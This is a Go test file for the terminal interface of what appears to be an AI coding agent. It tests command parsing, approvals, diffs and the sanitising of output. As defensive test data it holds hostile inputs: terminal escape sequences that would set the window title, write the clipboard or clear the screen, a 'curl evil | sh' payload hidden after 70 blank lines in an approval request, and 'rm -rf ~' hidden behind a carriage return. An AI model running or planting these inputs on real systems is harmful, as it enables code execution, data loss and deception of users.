package tui

import (
	"context"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/colorprofile"

	"github.com/trussdev/truss/internal/agent"
	"github.com/trussdev/truss/internal/compact"
	"github.com/trussdev/truss/internal/model"
	"github.com/trussdev/truss/internal/tool"
)

// hostile is output a command or a file might hold that, printed raw,
// would set the window title, write the clipboard, clear the screen, open
// a hyperlink, move the cursor or reorder the text.
const hostile = "before\x1b]0;pwned\x07 \x1b]52;c;ZXZpbA==\x07 \x1b[2J\x1b[H \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\ \x9b31m c1 \u202eevil\u202c \x1bPdcs\x1b\\ bell\x07 back\bspace\rafter"

func TestControlSequencesNeverReachTheFrame(t *testing.T) {
	for _, color := range []bool{true, false} {
		for _, width := range []int{60, 100} {
			d := newDriver(t, width, 60, color)
			d.f.toolOutput = hostile + "\n"
			d.send("fix it " + hostile)
			d.wait()
			// The model's text, a file's diff and an approval request carry it too.
			d.u.Observe(agent.Event{Type: agent.EventTurnStarted, Turn: 3})
			d.u.Observe(agent.Event{Type: agent.EventDelta, Turn: 3, Delta: &model.Delta{Kind: model.KindAssistant, Text: hostile}})
			before, after := "a\n", "a\n"+hostile+"\n"
			d.u.Observe(agent.Event{Type: agent.EventCallCompleted, Turn: 3,
				Call:    &model.ToolCall{ID: "c9", Name: "write_file" + hostile},
				Results: []tool.Result{{Changes: []tool.FileChange{{Path: "x" + hostile, Kind: tool.ChangeUpdate, Before: "1", After: "2", BeforeData: []byte(before), AfterData: []byte(after)}}}},
				Result:  &model.ToolResult{Text: hostile}})
			d.u.Observe(agent.Event{Type: agent.EventTurnFailed, Err: errors.New(hostile)})
			frame := d.frame()
			checkFrame(t, frame, width, 60, color)
			for _, bad := range []string{"\x1b]", "\x1bP", "\x07", "\x9b", "\u202e", "\b", "\r", "\x1b[2J", "\x1b[H"} {
				if strings.Contains(frame, bad) {
					t.Errorf("color=%v width=%d: the frame holds %q", color, width, bad)
				}
			}
			if !strings.Contains(frame, "<U+001B>]0;pwned<U+0007>") {
				t.Errorf("color=%v width=%d: the title sequence is not shown as inert text:\n%s", color, width, frame)
			}
			// The approval card.
			go d.u.Approve(context.Background(), ApprovalRequest{Tool: "bash", Command: "curl " + hostile, Paths: []string{"/etc" + hostile}, Reason: hostile,
				Edit: true, Diff: "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+" + hostile + "\n"})
			d.waitApproval()
			frame = d.frame()
			checkFrame(t, frame, width, 60, color)
			if strings.Contains(frame, "\x1b]") || strings.Contains(frame, "\x07") {
				t.Errorf("the approval card holds a control sequence")
			}
			d.press("n")
		}
	}
}

func TestParseCommand(t *testing.T) {
	for _, tc := range []struct{ in, name, arg string }{
		{"/help", "help", ""},
		{"  /Model  gpt-5.1 ", "model", "gpt-5.1"},
		{"/resume abc def", "resume", "abc def"},
		{"/", "", ""},
		{"/sandbox\tread-only", "sandbox", "read-only"},
	} {
		name, arg := parseCommand(tc.in)
		if name != tc.name || arg != tc.arg {
			t.Errorf("parseCommand(%q) = %q, %q; want %q, %q", tc.in, name, arg, tc.name, tc.arg)
		}
	}
}

func TestAttachments(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{"explain @main.go please", []string{"main.go"}},
		{"compare @a.go, @b/c.go and @a.go.", []string{"a.go", "b/c.go"}},
		{"mail me at a@b.com", nil},
		{"a lone @ sign", nil},
		{"(@x.txt)", nil},
		{"@dir/with-dash_1.md)", []string{"dir/with-dash_1.md"}},
	} {
		if got := attachments(tc.in); !slices.Equal(got, tc.want) {
			t.Errorf("attachments(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func FuzzParseCommand(f *testing.F) {
	f.Add("/model gpt")
	f.Add("/\t\n x")
	f.Fuzz(func(t *testing.T, s string) {
		name, arg := parseCommand(s)
		if strings.ContainsAny(name, " \t\n") {
			t.Errorf("name %q holds a space", name)
		}
		if arg != strings.TrimSpace(arg) {
			t.Errorf("arg %q is not trimmed", arg)
		}
	})
}

func FuzzAttachments(f *testing.F) {
	f.Add("see @a.go and @b")
	f.Fuzz(func(t *testing.T, s string) {
		for _, p := range attachments(s) {
			if p == "" || strings.ContainsAny(p, " \t\n") || !strings.Contains(s, "@"+p) {
				t.Errorf("attachments(%q) gave %q", s, p)
			}
		}
	})
}

func TestHistory(t *testing.T) {
	d := newDriver(t, 60, 20, false)
	d.send("/cost")
	d.send("/model")
	d.typeText("draft")
	steps := []struct {
		key, want string
	}{
		{"up", "/model"}, {"up", "/cost"}, {"up", "/cost"}, {"down", "/model"}, {"down", "draft"}, {"down", "draft"},
	}
	for i, s := range steps {
		d.press(s.key)
		if got := d.m.ta.Value(); got != s.want {
			t.Fatalf("step %d (%s): input %q, want %q", i, s.key, got, s.want)
		}
	}
}

func TestMultilineInputIsSentWhole(t *testing.T) {
	d := newDriver(t, 60, 20, false)
	d.typeText("line one")
	d.press("alt+enter")
	d.typeText("line two")
	d.press("ctrl+j")
	d.typeText("slow three")
	d.press("enter")
	d.waitCall()
	d.press("ctrl+c")
	d.wait()
	if got := d.f.tasks; len(got) != 1 || got[0] != "line one\nline two\nslow three" {
		t.Fatalf("tasks %q", got)
	}
}

// A cancelled turn ends through the session's cancel path: Run's ctx is
// cancelled, the call ends cancelled and the UI is idle again.
func TestCancelEndsTheTurn(t *testing.T) {
	for _, key := range []string{"esc", "ctrl+c"} {
		d := newDriver(t, 80, 20, false)
		d.send("slow")
		d.waitCall()
		if d.m.busy == "" {
			t.Fatal("not busy while a turn runs")
		}
		d.press(key)
		msg := d.wait().(turnDoneMsg)
		if msg.out.Status != agent.StatusCanceled {
			t.Errorf("%s: outcome %s, want canceled", key, msg.out.Status)
		}
		if d.m.busy != "" {
			t.Errorf("%s: still busy", key)
		}
		if !strings.Contains(d.frame(), "■ canceled") {
			t.Errorf("%s: the frame does not say the turn was cancelled:\n%s", key, d.frame())
		}
	}
}

// Ctrl-D while a turn runs cancels it and quits once it has ended.
func TestQuitWaitsForTheTurn(t *testing.T) {
	d := newDriver(t, 80, 20, false)
	d.send("slow")
	d.waitCall()
	_, cmd := d.m.Update(keyOf("ctrl+d"))
	if cmd != nil {
		t.Fatal("quit before the turn ended")
	}
	_, cmd = d.m.Update(<-d.msgs)
	if cmd == nil {
		t.Fatal("no quit after the turn ended")
	}
}

func TestApprovalWithdrawnWhenItsContextEnds(t *testing.T) {
	d := newDriver(t, 80, 24, false)
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() {
		_, err := d.u.Approve(ctx, ApprovalRequest{Command: "curl x", Network: true})
		errc <- err
	}()
	d.waitApproval()
	cancel()
	if err := <-errc; !errors.Is(err, context.Canceled) {
		t.Fatalf("Approve returned %v", err)
	}
	d.waitFor("the withdrawal", func() bool { return len(d.m.approvals) == 0 })
	if !strings.Contains(d.frame(), "withdrawn") {
		t.Errorf("the frame does not say the request was withdrawn")
	}
}

func TestApprovalAnswers(t *testing.T) {
	for key, want := range map[string]Decision{"y": Allow, "n": Deny, "a": AllowAlways, "esc": Deny} {
		d := newDriver(t, 80, 24, false)
		got := make(chan Decision, 1)
		go func() {
			dec, _ := d.u.Approve(context.Background(), ApprovalRequest{Command: "curl x", Network: true})
			got <- dec
		}()
		d.waitApproval()
		d.press(key)
		select {
		case dec := <-got:
			if dec != want {
				t.Errorf("%s: decision %v, want %v", key, dec, want)
			}
		case <-time.After(10 * time.Second):
			t.Fatalf("%s: no decision", key)
		}
	}
}

// TestApprovalTooTallCannotBeAllowed: a command with more lines than the
// screen holds (a payload after 70 blank lines) is not drawn past the
// screen's bottom: the card fits, says what it leaves out, keeps the keys
// in view, and y does not allow what was not seen; n refuses.
func TestApprovalTooTallCannotBeAllowed(t *testing.T) {
	d := newDriver(t, 80, 24, false)
	got := make(chan Decision, 1)
	go func() {
		dec, _ := d.u.Approve(context.Background(), ApprovalRequest{Command: "npm view left-pad version" + strings.Repeat("\n", 70) + "curl evil | sh"})
		got <- dec
	}()
	d.waitApproval()
	frame := d.frame()
	if n := strings.Count(frame, "\n") + 1; n > 24 {
		t.Errorf("the frame has %d lines on a 24-line screen", n)
	}
	if !strings.Contains(frame, "more lines do not fit") || !strings.Contains(frame, "n no") {
		t.Errorf("the cut card does not say so, or hides its keys:\n%s", frame)
	}
	d.press("y")
	d.press("a")
	select {
	case dec := <-got:
		t.Fatalf("a command cut to fit was answered %v", dec)
	case <-time.After(200 * time.Millisecond):
	}
	d.press("n")
	if dec := <-got; dec != Deny {
		t.Errorf("n: %v", dec)
	}
}

func TestApproveAfterRunEnded(t *testing.T) {
	u := New(Options{})
	close(u.ended)
	if _, err := u.Approve(context.Background(), ApprovalRequest{}); !errors.Is(err, ErrClosed) {
		t.Fatalf("Approve after the UI ended: %v", err)
	}
}

// Commands run through the session's optional capabilities.
func TestCommandsReachTheSession(t *testing.T) {
	d := newDriver(t, 80, 30, false)
	d.send("/compact")
	d.wait()
	if d.f.compacts != 1 {
		t.Fatalf("compact ran %d times", d.f.compacts)
	}
	if !strings.Contains(d.frame(), "Compacted: 6 items") {
		t.Errorf("the report is not shown")
	}
	d.send("/cost")
	if !strings.Contains(d.frame(), "Cost $0.0000") {
		t.Errorf("no cost report:\n%s", d.frame())
	}
	d.send("/new")
	if !strings.Contains(d.frame(), "/new is not available in this session") {
		t.Errorf("an unsupported command is not reported:\n%s", d.frame())
	}
	d.send("explain @main.go")
	if !strings.Contains(d.frame(), "cannot attach files") || len(d.f.tasks) != 0 {
		t.Errorf("a task with an attachment was sent to a session that cannot attach")
	}
}

func TestResize(t *testing.T) {
	d := newDriver(t, 100, 40, true)
	d.send("fix it")
	d.wait()
	for _, w := range []int{100, 60, 40, 130, 60} {
		d.m.Update(teaSize(w, 30))
		checkFrame(t, d.frame(), w, 30, true)
	}
}

// When Run's ctx ends during a turn, Run returns ctx's error only after
// the session's Run has returned through its cancel path.
func TestRunWaitsForTheTurnWhenItsContextEnds(t *testing.T) {
	pr, pw := io.Pipe()
	u := New(Options{Input: pr, Output: io.Discard, Width: 80, Height: 24, Env: []string{}})
	f := newFake(u)
	f.cancelDelay = 300 * time.Millisecond
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() { errc <- u.Run(ctx, f) }()
	go io.WriteString(pw, "slow\r")
	deadline := time.Now().Add(10 * time.Second)
	for {
		f.mu.Lock()
		n := len(f.tasks)
		f.mu.Unlock()
		if n == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the task never reached the session")
		}
		time.Sleep(time.Millisecond)
	}
	cancel()
	if err := <-errc; !errors.Is(err, context.Canceled) {
		t.Fatalf("Run returned %v", err)
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.active != 0 {
		t.Fatal("Run returned while the session's Run was still running")
	}
	pw.Close()
}

func TestHistoryKeptAcrossSessions(t *testing.T) {
	pr, pw := io.Pipe()
	u := New(Options{Input: pr, Output: io.Discard, Width: 80, Height: 24, Env: []string{}, History: []string{"old one", "old two"}})
	errc := make(chan error, 1)
	go func() { errc <- u.Run(context.Background(), newFake(u)) }()
	// Up twice recalls "old one"; Enter sends it (a task); then /quit.
	io.WriteString(pw, "\x1b[A\x1b[A\r")
	io.WriteString(pw, "/quit\r")
	if err := <-errc; err != nil {
		t.Fatal(err)
	}
	pw.Close()
	want := []string{"old two", "old one", "/quit"}
	if got := u.History(); !slices.Equal(got, append([]string{"old one"}, want...)) {
		t.Fatalf("history %q", got)
	}
}

// richSession adds the capabilities the plain fake lacks.
type richSession struct {
	*fakeSession
	attached []string
	detached int
	resumed  []string
	renewed  int
	model    string
}

func (r *richSession) Attach(ctx context.Context, path string) (string, error) {
	switch path {
	case "missing.go":
		return "", errors.New("open missing.go: no such file")
	case "gone.go": // an error that names the path itself, as the harness's do
		return "", errors.New("gone.go: no such file in the workspace")
	}
	r.attached = append(r.attached, path)
	return path + ", 3 lines", nil
}

func (r *richSession) Detach() { r.detached++ }

func (r *richSession) Resume(ctx context.Context, id string) ([]model.Item, error) {
	r.resumed = append(r.resumed, id)
	return []model.Item{
		{Kind: model.KindUser, Text: "earlier task"},
		{Kind: model.KindReasoning, Text: "hmm"},
		{Kind: model.KindToolCall, Call: &model.ToolCall{ID: "c1", Name: "bash", Input: `{"command":"ls"}`}},
		{Kind: model.KindToolResult, Result: &model.ToolResult{CallID: "c1", Text: "a.go\nb.go\x1b]0;t\x07"}},
		{Kind: model.KindAssistant, Text: "Earlier **answer**."},
	}, nil
}

func (r *richSession) NewSession(ctx context.Context) error { r.renewed++; return nil }

func (r *richSession) SetModel(ctx context.Context, name string) error {
	if name == "nope" {
		return errors.New("unknown model nope")
	}
	r.model = name
	return nil
}

func newRichDriver(t *testing.T) (*driver, *richSession) {
	d := newDriver(t, 80, 40, false)
	r := &richSession{fakeSession: d.f}
	d.m.sess = r
	return d, r
}

func TestAttach(t *testing.T) {
	d, r := newRichDriver(t)
	d.send("explain @calc.go and @go.mod.")
	d.wait()
	if !slices.Equal(r.attached, []string{"calc.go", "go.mod"}) || len(r.tasks) != 1 {
		t.Fatalf("attached %q, tasks %q", r.attached, r.tasks)
	}
	if f := d.frame(); !strings.Contains(f, "Attached calc.go, 3 lines") {
		t.Errorf("the attachment is not reported:\n%s", f)
	}
	d.send("explain @missing.go")
	d.wait()
	if len(r.tasks) != 1 {
		t.Errorf("a task whose attachment failed was sent")
	}
	if f := d.frame(); !strings.Contains(f, "attach missing.go: open missing.go: no such file; the task was not sent") {
		t.Errorf("the failed attachment is not reported:\n%s", f)
	}
	d.send("explain @gone.go")
	d.wait()
	if f := d.frame(); !strings.Contains(f, "attach gone.go: no such file in the workspace; the task was not sent") {
		t.Errorf("a failed attachment's error that names the path is not reported once:\n%s", f)
	}
	// One file attached, the next refused: the task is not sent, the
	// first is dropped with it and not said to be attached.
	before := r.detached
	d.send("explain @ok.go and @missing.go")
	d.wait()
	if r.detached != before+1 {
		t.Errorf("the files attached before the refused one were not dropped")
	}
	if f := d.frame(); strings.Contains(f, "Attached ok.go") {
		t.Errorf("a file of a task that was not sent is said to be attached:\n%s", f)
	}
}

// TestHelpScrolling: /help says how the transcript scrolls where it is
// drawn: the terminal's scrollback inline, PgUp/PgDn on the alternate
// screen.
func TestHelpScrolling(t *testing.T) {
	for _, inline := range []bool{true, false} {
		d := newDriver(t, 200, 60, false)
		d.m.inline = inline
		d.send("/help")
		f := d.frame()
		if !strings.Contains(f, "Ctrl-D exits") {
			t.Fatalf("inline %v: no key help:\n%s", inline, f)
		}
		if got := strings.Contains(f, "PgUp/PgDn scroll"); got == inline {
			t.Errorf("inline %v: PgUp/PgDn offered %v:\n%s", inline, got, f)
		}
	}
}

func TestResumeAndNew(t *testing.T) {
	d, r := newRichDriver(t)
	d.send("fix it")
	d.wait()
	d.send("/resume s-0")
	d.wait()
	f := d.frame()
	if !slices.Equal(r.resumed, []string{"s-0"}) {
		t.Fatalf("resumed %q", r.resumed)
	}
	if strings.Contains(f, "fix it") || !strings.Contains(f, "earlier task") || !strings.Contains(f, "Earlier answer.") && !strings.Contains(f, "Earlier **answer**.") || !strings.Contains(f, "<U+001B>]0;t") {
		t.Errorf("the resumed transcript is not drawn as it should be:\n%s", f)
	}
	d.send("/new")
	d.wait()
	if f := d.frame(); r.renewed != 1 || strings.Contains(f, "earlier task") || !strings.Contains(f, "New session.") {
		t.Errorf("/new did not start anew:\n%s", f)
	}
	d.send("/model nope")
	d.wait()
	d.send("/model gpt-x")
	d.wait()
	if f := d.frame(); r.model != "gpt-x" || !strings.Contains(f, "/model: unknown model nope") || !strings.Contains(f, "Model: gpt-x") {
		t.Errorf("/model: model %q, frame:\n%s", r.model, f)
	}
}

func TestChildObserver(t *testing.T) {
	d := newDriver(t, 80, 20, false)
	c := d.u.Child("reviewer\x1b[31m")
	c.Observe(agent.Event{Type: agent.EventCallStarted, Call: &model.ToolCall{ID: "x", Name: "bash"},
		Ops: []tool.Call{{Op: tool.OpExec, Args: &tool.ExecArgs{Command: "go vet ./..."}}}})
	c.Observe(agent.Event{Type: agent.EventDelta, Delta: &model.Delta{Kind: model.KindAssistant, Text: "not shown"}})
	c.Observe(agent.Event{Type: agent.EventRunCompleted, Outcome: &agent.Outcome{Status: agent.StatusCompleted, Turns: 1, Calls: 1}})
	f := d.frame()
	for _, want := range []string{"↳ [reviewer] bash · $ go vet ./...", "↳ [reviewer] completed after 1 turn and 1 tool call"} {
		if !strings.Contains(f, want) {
			t.Errorf("the frame lacks %q:\n%s", want, f)
		}
	}
	if strings.Contains(f, "not shown") {
		t.Errorf("a sub-agent's text is drawn")
	}
}

// A call's header is one line even when the command holds a carriage
// return, which termsafe turns into a line break elsewhere.
func TestCardHeaderIsOneLine(t *testing.T) {
	d := newDriver(t, 80, 20, false)
	d.u.Observe(agent.Event{Type: agent.EventTurnStarted, Turn: 1})
	d.u.Observe(agent.Event{Type: agent.EventCallStarted, Turn: 1, Call: &model.ToolCall{ID: "x", Name: "ba\rsh"},
		Ops: []tool.Call{{Op: tool.OpExec, Args: &tool.ExecArgs{Command: "echo safe\rrm -rf ~"}}}})
	f := d.frame()
	if !strings.Contains(f, "ba sh · $ echo safe rm -rf ~") {
		t.Errorf("the call's header is not one line:\n%s", f)
	}
}

// A streaming message wrapped delta by delta reads the same as the whole
// text wrapped at once, also across a resize.
func TestStreamWrapMatchesWholeWrap(t *testing.T) {
	text := "\n\nFirst paragraph with enough words to wrap more than once at a narrow width.\n\n" +
		"- a list item\n- another one that is rather longer than the first\n\n\tindented with a tab\n" +
		strings.Repeat("averyveryverylongwordwithoutspaces", 3) + "\nlast line without newline  \n\n"
	reference := func(s string, width int) []string {
		var out []string
		for _, l := range wrap(s, width-2) {
			if len(out) == 0 && strings.TrimSpace(l) == "" {
				continue
			}
			out = append(out, "  "+l)
		}
		for len(out) > 0 && strings.TrimSpace(out[len(out)-1]) == "" {
			out = out[:len(out)-1]
		}
		return out
	}
	var sw streamWrap
	for _, step := range []int{1, 3, 7, 13} {
		sw = streamWrap{}
		for n := 0; n <= len(text); n += step {
			width := 30
			if n > len(text)/2 {
				width = 44 // a resize halfway
			}
			got, want := sw.lines(text[:n], width), reference(text[:n], width)
			if !slices.Equal(got, want) {
				t.Fatalf("step %d, %d bytes, width %d:\n got %q\nwant %q", step, n, width, got, want)
			}
		}
	}
}

func TestUseColor(t *testing.T) {
	for _, tc := range []struct {
		env  []string
		p    colorprofile.Profile
		want bool
	}{
		{nil, colorprofile.TrueColor, true},
		{[]string{"NO_COLOR=1"}, colorprofile.TrueColor, false},
		{[]string{"NO_COLOR="}, colorprofile.ANSI256, true},
		{nil, colorprofile.ANSI, true},
		{nil, colorprofile.Ascii, false},
		{nil, colorprofile.NoTTY, false},
	} {
		if got := useColor(tc.env, tc.p); got != tc.want {
			t.Errorf("useColor(%q, %v) = %v", tc.env, tc.p, got)
		}
	}
}

func TestDiffOf(t *testing.T) {
	big := strings.Repeat("x", maxDiffInput+1)
	r := renderer{st: newStyles(false), showDiffs: true}
	for _, tc := range []struct {
		name string
		c    tool.FileChange
		want string
	}{
		{"add", tool.FileChange{Path: "n.go", Kind: tool.ChangeAdd, After: "d", AfterData: []byte("a\nb\n")},
			"  ⎿ added n.go +2 −0\n    @@ -0,0 +1,2 @@\n    +a\n    +b"},
		{"delete", tool.FileChange{Path: "o.go", Kind: tool.ChangeDelete, Before: "d", BeforeData: []byte("a\n")},
			"  ⎿ deleted o.go +0 −1\n    @@ -1 +0,0 @@\n    -a"},
		{"binary", tool.FileChange{Path: "b.bin", Kind: tool.ChangeUpdate, Before: "1", After: "2", BeforeData: []byte{0, 1}, AfterData: []byte{0, 2}},
			"  ⎿ updated b.bin (binary)"},
		{"unreadable", tool.FileChange{Path: "l", Kind: tool.ChangeUpdate, Before: "1", After: "2"},
			"  ⎿ updated l (contents not readable)"},
		{"large", tool.FileChange{Path: "big.txt", Kind: tool.ChangeUpdate, Before: "1", After: "2", BeforeData: []byte("a"), AfterData: []byte(big)},
			"  ⎿ updated big.txt (1.0 MB, too large to draw; /diff shows it)"},
		{"moved", tool.FileChange{Path: "a.go", MovedTo: "b.go", Kind: tool.ChangeUpdate, Before: "1", After: "1", BeforeData: []byte("x\n"), AfterData: []byte("x\n")},
			"  ⎿ updated a.go → b.go +0 −0"},
		// A bulk change's AfterData is the tracker's manifest, not a file.
		{"bulk", tool.FileChange{Path: ".pytest_cache", Kind: tool.ChangeUpdate, Files: 2, Bytes: 1234, After: "m",
			AfterData: []byte("update file c5f21e08 44136fa3 2 \".pytest_cache/v/cache/lastfailed\"\nadd file - 9a 5 \".pytest_cache/README.md\"\n")},
			"  ⎿ updated .pytest_cache (2 files changed beneath it, 1234 bytes after)"},
		{"one file in bulk", tool.FileChange{Path: "build", Kind: tool.ChangeAdd, Files: 1, Bytes: 10, After: "m", AfterData: []byte("add file - 9a 10 \"build/x\"\n")},
			"  ⎿ added build (1 file changed beneath it, 10 bytes after)"},
		{"link", tool.FileChange{Path: "cur", Kind: tool.ChangeAdd, LinkAfter: "v2\x1b[2J"},
			"  ⎿ added cur (a link to v2)"}, // the escape sequence dropped
		{"relinked", tool.FileChange{Path: "cur", Kind: tool.ChangeUpdate, LinkBefore: "v1", LinkAfter: "v2"},
			"  ⎿ updated cur (a link, from v1 to v2)"},
		{"fifo", tool.FileChange{Path: "p", Kind: tool.ChangeAdd, Type: "fifo"},
			"  ⎿ added p (a FIFO)"},
		{"too large", tool.FileChange{Path: "many", Kind: tool.ChangeUpdate, Type: "too_large"},
			"  ⎿ updated many (a directory too large to track)"},
	} {
		got := strings.Join(r.drawFileDiff(diffOf(tc.c), 100), "\n")
		if got != tc.want {
			t.Errorf("%s:\n%s\nwant:\n%s", tc.name, got, tc.want)
		}
	}
}

func TestNotify(t *testing.T) {
	d := newDriver(t, 80, 20, false)
	d.u.Notify("Compacted automatically: 40 items replaced by a summary.\x1b]0;x\x07")
	if f := d.frame(); !strings.Contains(f, "Compacted automatically: 40 items replaced by a summary.<U+001B>]0;x<U+0007>") {
		t.Errorf("the notice is not drawn, or not sanitised:\n%s", f)
	}
}

// TestOutcomeTextIsTheTasks: the line that ends a task counts that task's
// turns, calls and tokens, not the session's (the status line has those).
func TestOutcomeTextIsTheTasks(t *testing.T) {
	o := &agent.Outcome{Status: agent.StatusCompleted, Turns: 1, Calls: 2,
		Usage:    model.Usage{InputTokens: 11_000, OutputTokens: 800, CostUSD: 0.04},
		RunUsage: model.Usage{InputTokens: 3_000, OutputTokens: 100, CostUSD: 0.01}}
	if got, want := outcomeText(o), "✓ completed · 1 turn · 2 tool calls · 3.1k tokens · $0.0100"; got != want {
		t.Errorf("outcomeText = %q, want %q", got, want)
	}
}

// TestResumedSessionShowsItsConversation: a session opened on an earlier
// one (truss --resume) draws its conversation before the first input.
func TestResumedSessionShowsItsConversation(t *testing.T) {
	d := newDriverWith(t, 80, 24, false, func(f *fakeSession) { f.resumed = true })
	f := d.frame()
	for _, want := range []string{"why does TestAdd fail?", "--- FAIL: TestAdd", "`a - b` should be `a + b`", "Resumed session s-1"} {
		if !strings.Contains(f, want) {
			t.Errorf("the first frame lacks %q:\n%s", want, f)
		}
	}
}

// TestCardCountsTheWholeOutput: a 20,000-line result, kept as its head
// and tail, says that all but the lines shown were left out.
func TestCardCountsTheWholeOutput(t *testing.T) {
	var b strings.Builder
	for i := 1; i <= 20000; i++ {
		fmt.Fprintf(&b, "line %d\n", i)
	}
	call := &model.ToolCall{ID: "c", Name: "bash", Input: `{"command":"seq"}`}
	m := newModel(context.Background(), newFake(New(Options{})), newQueue(), false)
	m.Update(tea.WindowSizeMsg{Width: 80, Height: 30})
	m.apply([]item{{ev: convert(agent.Event{Type: agent.EventCallStarted, Call: call})},
		{ev: convert(agent.Event{Type: agent.EventCallCompleted, Call: call, Result: &model.ToolResult{Text: b.String()}, FullText: b.String()})}})
	want := fmt.Sprintf("… %d lines …", 20000-resultHead-resultTail)
	if f := m.View().Content; !strings.Contains(f, want) {
		t.Errorf("the card does not say %q:\n%s", want, f)
	}
}

// TestSandboxFullAsksFirst: /sandbox full says what it gives away and
// switches only when confirmed.
func TestSandboxFullAsksFirst(t *testing.T) {
	d := newDriver(t, 100, 30, false)
	d.send("/sandbox full")
	if f := d.frame(); !strings.Contains(f, "without a sandbox") || !strings.Contains(f, "/sandbox full confirm") {
		t.Fatalf("no warning:\n%s", f)
	}
	if d.f.sandbox != "" {
		t.Fatalf("switched to %q without a confirmation", d.f.sandbox)
	}
	d.send("/sandbox full confirm")
	d.wait()
	if d.f.sandbox != "full" {
		t.Errorf("after the confirmation the sandbox is %q", d.f.sandbox)
	}
}

// TestApprovalCardForAnEdit: an edit's card asks "Allow this edit?",
// shows the diff coloured, cut to what fits with a count of the rest, says
// that always means every edit, and y, n, a answer it (a cut diff does
// not stop y: the diff is a preview of the edit named on the card).
func TestApprovalCardForAnEdit(t *testing.T) {
	for _, tc := range []struct {
		name   string
		height int
		diff   string
		key    string
		want   Decision
		has    []string
		hasnt  []string
	}{
		{"whole", 40, editDiff(2), "a", AllowAlways,
			[]string{"╭─ Allow this edit? ", "│ edit_file · edit calc.go", "│ -    return a - b", "│ +    return a + b", "a always (every edit, this session)"},
			[]string{"more lines of the diff"}},
		{"cut to the bound", 60, editDiff(10), "y", Allow,
			[]string{fmt.Sprintf("⋮ %d more lines of the diff", 2+10*6-maxApprovalDiff)}, nil},
		{"cut to the screen", 24, editDiff(10), "y", Allow,
			[]string{"more lines of the diff", "y yes"}, nil},
		{"no diff", 24, "", "n", Deny, []string{"Allow this edit?"}, []string{"@@"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, color := range []bool{false, true} {
				d := newDriver(t, 80, tc.height, color)
				got := d.askEdit(tc.diff)
				f := d.frame()
				checkFrame(t, f, 80, tc.height, color)
				if !color {
					for _, w := range tc.has {
						if !strings.Contains(f, w) {
							t.Errorf("the card lacks %q:\n%s", w, f)
						}
					}
					for _, w := range tc.hasnt {
						if strings.Contains(f, w) {
							t.Errorf("the card holds %q:\n%s", w, f)
						}
					}
				} else if tc.diff != "" && !strings.Contains(f, "\x1b[32m│") && !strings.Contains(f, "\x1b[32m+") {
					t.Errorf("the diff is not coloured:\n%s", visibleEsc(f))
				}
				d.press(tc.key)
				if dec := <-got; dec != tc.want {
					t.Errorf("%s: %v, want %v", tc.key, dec, tc.want)
				}
			}
		})
	}
}

// TestCommandShowsOutputAndChanges: a command that changes files shows
// its output and then its diffs, whether it succeeded or failed; an edit
// shows only its diff (its result says no more than the diff).
func TestCommandShowsOutputAndChanges(t *testing.T) {
	change := []tool.Result{{Changes: []tool.FileChange{{Path: "f3.txt", Kind: tool.ChangeAdd, After: "d", AfterData: []byte("y\n")}}}}
	for _, tc := range []struct {
		name   string
		op     tool.Op
		failed bool
		want   []string
		not    []string
	}{
		{"command", tool.OpExec, false, []string{"HELLO-OUTPUT-1", "HELLO-OUTPUT-2", "added f3.txt"}, nil},
		{"failed command", tool.OpExec, true, []string{"HELLO-OUTPUT-1", "exit 3", "added f3.txt"}, nil},
		{"edit", tool.OpCreate, false, []string{"added f3.txt"}, []string{"HELLO-OUTPUT-1"}},
	} {
		d := newDriver(t, 100, 40, false)
		d.u.Observe(agent.Event{Type: agent.EventTurnStarted, Turn: 1})
		out := "HELLO-OUTPUT-1\nHELLO-OUTPUT-2\n"
		if tc.failed {
			out += "exit 3\n"
		}
		d.u.Observe(agent.Event{Type: agent.EventCallCompleted, Turn: 1,
			Call: &model.ToolCall{ID: "c1", Name: "bash"}, Ops: []tool.Call{{Op: tc.op}},
			Results: change, Result: &model.ToolResult{Text: out, IsError: tc.failed}})
		frame := d.frame()
		for _, w := range tc.want {
			if !strings.Contains(frame, w) {
				t.Errorf("%s: the frame lacks %q:\n%s", tc.name, w, frame)
			}
		}
		for _, w := range tc.not {
			if strings.Contains(frame, w) {
				t.Errorf("%s: the frame holds %q:\n%s", tc.name, w, frame)
			}
		}
		if strings.Index(frame, "HELLO-OUTPUT-1") > strings.Index(frame, "added f3.txt") && tc.op == tool.OpExec {
			t.Errorf("%s: the diff comes before the output:\n%s", tc.name, frame)
		}
	}
}

// TestReplaySummaries: a resumed call is summarized from its input (a
// command, an editor's command and file, a patch), an attached file is
// folded to its name, and a compaction's summary is one line, not a task.
func TestReplaySummaries(t *testing.T) {
	for _, tc := range []struct{ input, want string }{
		{`{"command":"go test ./... 2>&1"}`, "$ go test ./... 2>&1"},
		{`{"command":"str_replace","path":"stats.go","old_str":"a","new_str":"b"}`, "str_replace stats.go"},
		{`{"command":["bash","-lc","ls -la"]}`, "$ bash -lc ls -la"},
		{`{"cmd":"make"}`, "$ make"},
		{`{"file_path":"a.go"}`, "a.go"},
		{`{"input":"*** Begin Patch\n*** Add File: x"}`, "*** Begin Patch …"},
		{`not json`, "not json"},
	} {
		if got := replaySummary(tc.input); got != tc.want {
			t.Errorf("replaySummary(%s) = %q, want %q", tc.input, got, tc.want)
		}
	}
	task := "explain this" + AttachedFile(`a "b".go`, []byte("package a\n")) + AttachedFile("c.go", []byte("x"))
	if got, want := foldAttachments(task), "explain this\n(attached a \"b\".go)\n(attached c.go)"; got != want {
		t.Errorf("foldAttachments = %q, want %q", got, want)
	}
	u := New(Options{AltScreen: true})
	m := newModel(context.Background(), newFake(u), u.q, true)
	m.Update(tea.WindowSizeMsg{Width: 100, Height: 40})
	m.replay([]model.Item{
		{Kind: model.KindUser, Text: compact.SummaryPrefix + "We fixed A.\nThen B."},
		{Kind: model.KindUser, Text: task},
	})
	frame, _ := m.render()
